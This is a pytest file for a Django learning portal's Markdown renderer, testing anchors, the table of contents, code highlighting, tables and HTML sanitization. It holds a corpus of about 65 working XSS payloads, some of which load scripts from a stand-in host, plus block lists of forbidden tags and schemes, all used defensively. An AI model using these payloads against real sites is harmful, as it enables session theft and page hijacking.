"""The one Markdown renderer: anchors, table of contents, code, tables, and safe HTML only."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from lessons.kernel.rendering import render_markdown
from lessons.models import Lesson, Question, Quiz
from tests.conftest import make_lesson

HEADINGS = {"h2", "h3", "h4", "h5", "h6"}
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "style", "meta", "base", "link", "svg", "math",
    "template", "noscript", "body", "html",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "data", "poster", "background",
    "xlink:href", "cite", "srcdoc",
}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Elements(HTMLParser):
    """Every start tag in a fragment, with its attributes (entities already decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(fragment: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    return parser.elements


def url_as_a_browser_reads_it(value: str) -> str:
    """Browsers strip leading/trailing controls and spaces and drop tabs and newlines."""
    stripped = value.strip("".join(chr(c) for c in range(0x21)))
    return "".join(ch for ch in stripped if ch not in "\t\n\r").lower()


def test_it_gives_headings_anchors_that_keep_hangul():
    rendered = render_markdown("## 보안 설정\n\n본문.\n\n### Pod Security Admission\n\n본문.\n")
    headings = [(tag, attrs.get("id")) for tag, attrs in elements(rendered.html)]
    assert ("h2", "보안-설정") in headings
    assert ("h3", "pod-security-admission") in headings


def test_it_lists_h2_and_h3_in_the_toc_in_order_with_their_names():
    body = (
        "# 제목은 목차에 없다\n\n"
        "## 개요\n\n글.\n\n"
        "### Role & RoleBinding\n\n글.\n\n"
        "#### 너무 깊은 절\n\n글.\n\n"
        "## 정리\n\n글.\n"
    )
    assert render_markdown(body).toc == [
        {"id": "개요", "name": "개요", "level": 2},
        {"id": "role-rolebinding", "name": "Role & RoleBinding", "level": 3},
        {"id": "정리", "name": "정리", "level": 2},
    ]


def test_it_links_each_toc_entry_to_a_heading_in_the_body():
    rendered = render_markdown("## 개요\n\n글.\n\n## 개요\n\n같은 이름의 절.\n\n### 세부\n\n글.\n")
    heading_ids = [a["id"] for tag, a in elements(rendered.html) if tag in HEADINGS]
    assert [entry["id"] for entry in rendered.toc] == heading_ids
    assert len(set(heading_ids)) == 3  # two headings with the same name get distinct anchors


def test_one_text_leaves_nothing_behind_for_the_next():
    """The reader is reused between texts: nothing of one may reach the next (its table of
    contents, its anchors, its code)."""
    first = render_markdown("## 설치\n\n```yaml\nkind: Pod\n```\n\n## 설치\n")
    assert [entry["id"] for entry in first.toc] == ["설치", "설치_1"]
    second = render_markdown("## 설치\n\n본문.\n")
    assert [entry["id"] for entry in second.toc] == ["설치"]
    assert "kind" not in second.html and 'id="설치"' in second.html
    assert render_markdown("본문만.\n").toc == []


def test_it_highlights_code_the_same_way_every_time():
    """Pygments' class table is built once per style and shared: the second lesson's code
    gets the same classes as the first's."""
    source = "```python\n# 주석\nname = 'pod'\n```\n"
    assert render_markdown(source).html == render_markdown(source).html
    assert 'class="c1"' in render_markdown(source).html


def test_it_estimates_more_reading_minutes_for_longer_lessons():
    def minutes(characters: int) -> int:
        return render_markdown("## 절\n\n" + "가나다라 " * (characters // 4)).reading_minutes

    assert minutes(40) == 1
    assert minutes(40) < minutes(2_000) < minutes(20_000)


def test_it_highlights_fenced_code_with_pygments_classes_and_no_inline_styles():
    rendered = render_markdown(
        "## 예제\n\n```python\ndef scale(replicas):\n    return replicas + 1\n```\n"
    )
    found = elements(rendered.html)
    assert ("div", {"class": "highlight"}) in found
    span_classes = {attrs.get("class") for tag, attrs in found if tag == "span"}
    assert {"k", "nf", "n", "o", "mi"} <= span_classes  # def, scale, replicas, +, 1
    assert all("style" not in attrs for _, attrs in found)
    assert "style=" not in rendered.html


def test_it_highlights_comments_and_quoted_strings_in_code():
    rendered = render_markdown("```python\n# 파드 수\nname = 'web'\nkind = \"Pod\"\n```\n")
    assert '<span class="c1"># 파드 수</span>' in rendered.html
    assert "<span class=\"s1\">'web'</span>" in rendered.html
    assert '<span class="s2">"Pod"</span>' in rendered.html


def test_it_renders_tables():
    rendered = render_markdown("| 리소스 | 개수 |\n|---|---|\n| 파드 | 3 |\n| 서비스 | 1 |\n")
    tags = [tag for tag, _ in elements(rendered.html)]
    assert tags.count("table") == 1
    assert tags.count("th") == 2
    assert tags.count("td") == 4
    assert "<td>서비스</td>" in rendered.html


def test_it_keeps_table_column_alignment():
    rendered = render_markdown("| 노드 | CPU |\n|:-:|--:|\n| worker-1 | 2 |\n")
    cells = [(tag, attrs.get("align")) for tag, attrs in elements(rendered.html)]
    assert ("th", "center") in cells
    assert ("td", "right") in cells


def test_it_renders_admonitions_with_their_titles():
    rendered = render_markdown('!!! warning "주의"\n    운영 클러스터에서는 실행하지 말 것.\n')
    found = elements(rendered.html)
    assert ("div", {"class": "admonition warning"}) in found
    assert '<p class="admonition-title">주의</p>' in rendered.html
    assert "운영 클러스터에서는 실행하지 말 것." in rendered.html


def test_it_drops_classes_that_mimic_the_portal_ui():
    rendered = render_markdown(
        '<div class="bar">가짜 진도</div>\n\n<div class="toc">가짜 목차</div>\n'
    )
    assert all("class" not in attrs for _, attrs in elements(rendered.html))


XSS_VECTORS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-upper-src"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline"),
    pytest.param('<script/xss src="//evil.example/x.js"></script>', id="script-slash"),
    pytest.param("<scr<script>ipt>alert(1)</script>", id="script-nested"),
    pytest.param("<<script>script>alert(1)<</script>/script>", id="script-double-angle"),
    pytest.param("글 <script>alert(1)", id="script-unclosed"),
    pytest.param('<div markdown="1"><script>alert(1)</script></div>', id="script-in-markdown-div"),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<img src="x" ONERROR="alert(1)">', id="img-onerror-upper"),
    pytest.param("<img src=x\nonerror=alert(1)>", id="img-onerror-newline"),
    pytest.param('<img/src="x"/onerror=alert(1)>', id="img-slashes"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', id="svg-xlink"
    ),
    pytest.param("<math><mtext><script>alert(1)</script></mtext></math>", id="math-script"),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="math-href"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-javascript-mixed-case"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="a-javascript-decimal-entity"),
    pytest.param('<a href="&#x6A;&#x61;vascript&#58;alert(1)">x</a>', id="a-javascript-hex-entity"),
    pytest.param('<a href="java&#x09;script:alert(1)">x</a>', id="a-javascript-tab"),
    pytest.param('<a href=" &#14; javascript:alert(1)">x</a>', id="a-javascript-control-char"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-javascript-colon-entity"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="a-data-html",
    ),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="a-vbscript"),
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param('[x](JaVaScRiPt:alert(1) "제목")', id="md-link-javascript-title"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-javascript-angle"),
    pytest.param("[x][evil]\n\n[evil]: javascript:alert(1)", id="md-reference-javascript"),
    pytest.param("[x](data:text/html,<script>alert(1)</script>)", id="md-link-data"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param("<javascript:alert(1)>", id="md-autolink-javascript"),
    pytest.param('<https://example.com/" onmouseover="alert(1)>', id="md-autolink-breakout"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param(
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', id="img-data"
    ),
    pytest.param('<img srcset="javascript:alert(1) 1x">', id="img-srcset"),
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="javascript:alert(1)">', id="embed"),
    pytest.param('<form action="javascript:alert(1)"><input type=submit></form>', id="form"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="button-formaction"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea"),
    pytest.param('<style>@import "//evil.example/x.css";</style>', id="style-element"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attribute"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"
    ),
    pytest.param('<base href="//evil.example/">', id="base"),
    pytest.param('<link rel=stylesheet href="//evil.example/x.css">', id="link"),
    pytest.param('<p id="reading-position">x</p>', id="id-on-paragraph"),
    pytest.param('<img name="getElementById" id="completion" src="/a.png">', id="id-name-on-img"),
    pytest.param('<a onmouseover="alert(1)" href="https://example.com">x</a>', id="a-onmouseover"),
    pytest.param('<p onclick="alert(1)">x</p>', id="p-onclick"),
    pytest.param('<div class="admonition" onclick="alert(1)">x</div>', id="div-onclick"),
    pytest.param('<h2 id="x" onclick="alert(1)">x</h2>', id="heading-onclick"),
    pytest.param("<details open ontoggle=alert(1)><summary>s</summary>x</details>", id="details"),
    pytest.param("<!-- <script>alert(1)</script> -->", id="comment"),
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-broken"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        id="noscript-mutation",
    ),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    pytest.param('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="table"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_it_renders_hostile_markdown_without_anything_that_runs(vector):
    body = f"## 절\n\n앞 문단.\n\n{vector}\n\n뒤 문단.\n"
    output = render_markdown(body).html
    assert "<script" not in output.lower()
    assert "앞 문단." in output
    for tag, attrs in elements(output):
        assert tag not in FORBIDDEN_TAGS, output
        for name, value in attrs.items():
            assert not name.startswith("on"), output
            assert name not in {"style", "srcdoc", "action", "formaction", "name"}, output
            assert name != "id" or tag in HEADINGS, output
            if name in URL_ATTRIBUTES:
                assert not url_as_a_browser_reads_it(value).startswith(DANGEROUS_SCHEMES), output


def test_the_xss_corpus_is_large_and_distinct():
    vectors = [param.values[0] for param in XSS_VECTORS]
    assert len(set(vectors)) == len(vectors) >= 25


def test_it_keeps_safe_links_and_images():
    output = render_markdown(
        "[문서](https://kubernetes.io/docs/) · [메일](mailto:study@example.com)\n\n"
        "![다이어그램](/static/img/arch.png)\n"
    ).html
    found = elements(output)
    assert any(
        tag == "a" and attrs.get("href") == "https://kubernetes.io/docs/" for tag, attrs in found
    )
    assert any(
        tag == "a" and attrs.get("href") == "mailto:study@example.com" for tag, attrs in found
    )
    assert ("img", {"src": "/static/img/arch.png", "alt": "다이어그램"}) in found


def test_it_sanitizes_quiz_prompts_and_explanations_the_same_way(basic):
    quiz = Quiz.objects.create(lesson=make_lesson(basic, "Pods"))
    question = Question.objects.create(
        quiz=quiz,
        kind=Question.Kind.SHORT,
        prompt="파드를 **만드는** 명령은? <img src=x onerror=alert(1)>",
        explanation="[참고](javascript:alert(1)) <script>alert(1)</script>",
        accepted_answers="kubectl run",
    )
    assert "<strong>만드는</strong>" in question.prompt_html
    for fragment in (question.prompt_html, question.explanation_html):
        assert "<script" not in fragment
        for _, attrs in elements(fragment):
            assert not any(name.startswith("on") for name in attrs)
            assert "javascript:" not in attrs.get("href", "")


def test_it_fills_the_html_toc_and_reading_time_when_a_lesson_is_saved(basic):
    lesson = make_lesson(
        basic, "Networking", body="## 쿠버네티스 네트워킹 모델\n\n" + "파드마다 IP가 있다. " * 200
    )
    lesson.refresh_from_db()
    assert '<h2 id="쿠버네티스-네트워킹-모델">' in lesson.body_html
    assert lesson.toc == [
        {"id": "쿠버네티스-네트워킹-모델", "name": "쿠버네티스 네트워킹 모델", "level": 2}
    ]
    assert lesson.reading_minutes >= 3

    lesson.body = "## 바뀐 절\n\n짧다.\n"
    lesson.save()
    lesson.refresh_from_db()
    assert '<h2 id="바뀐-절">' in lesson.body_html
    assert "쿠버네티스-네트워킹-모델" not in lesson.body_html
    assert [entry["id"] for entry in lesson.toc] == ["바뀐-절"]
    assert lesson.reading_minutes == 1


def test_it_serves_the_lesson_page_without_rendering_markdown(alice_client, lessons, monkeypatch):
    def must_not_render(*args, **kwargs):
        raise AssertionError("the lesson page rendered Markdown")

    monkeypatch.setattr("lessons.kernel.rendering.render_markdown", must_not_render)
    monkeypatch.setattr("lessons.models.content.render_markdown", must_not_render)
    monkeypatch.setattr("lessons.models.quiz.render_inline", must_not_render)
    response = alice_client.get(reverse("lessons:lesson", args=["pods"]))
    assert response.status_code == 200
    assert '<h2 id="pods-첫-절">Pods 첫 절</h2>' in response.content.decode()


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("## Completion\n\n다 읽었으면 완료를 누르자.\n", id="markdown-heading"),
        pytest.param('<h2 id="reading-position">절</h2>\n\n글.\n', id="raw-heading"),
    ],
)
def test_it_keeps_element_ids_unique_on_the_lesson_page(alice_client, basic, body):
    make_lesson(basic, "Ids", body=body)
    page = alice_client.get(reverse("lessons:lesson", args=["ids"])).content.decode()
    ids = [attrs["id"] for _, attrs in elements(page) if "id" in attrs]
    assert "completion" in ids and "reading-position" in ids
    assert len(ids) == len(set(ids))


def test_it_never_lets_a_body_take_an_id_the_lesson_page_uses(alice_client, basic):
    make_lesson(basic, "Plain", body="## 절\n\n글.\n")
    page = alice_client.get(reverse("lessons:lesson", args=["plain"])).content.decode()
    page_ids = {attrs["id"] for _, attrs in elements(page) if "id" in attrs} - {"절"}
    hostile = "".join(f'## {name}\n\n<h3 id="{name}">x</h3>\n\n' for name in sorted(page_ids))
    make_lesson(basic, "Hostile", body=hostile)
    page = alice_client.get(reverse("lessons:lesson", args=["hostile"])).content.decode()
    ids = [attrs["id"] for _, attrs in elements(page) if "id" in attrs]
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)


def test_it_lets_a_keyboard_scroll_code_and_tables():
    html = render_markdown(
        "```bash\nkubectl get pods\n```\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n"
    ).html

    assert '<pre tabindex="0">' in html
    assert '<table tabindex="0">' in html


def test_it_renders_stored_lessons_again_when_migrating(basic):
    from importlib import import_module

    from django.apps import apps

    lesson = make_lesson(basic, "Code", body="```bash\nls\n```\n")
    Lesson.objects.filter(pk=lesson.pk).update(body_html="<pre>old</pre>")
    migration = import_module("lessons.migrations.0007_rerender_for_scrollable_code")

    migration.render_again(apps, None)

    assert 'tabindex="0"' in Lesson.objects.get(pk=lesson.pk).body_html
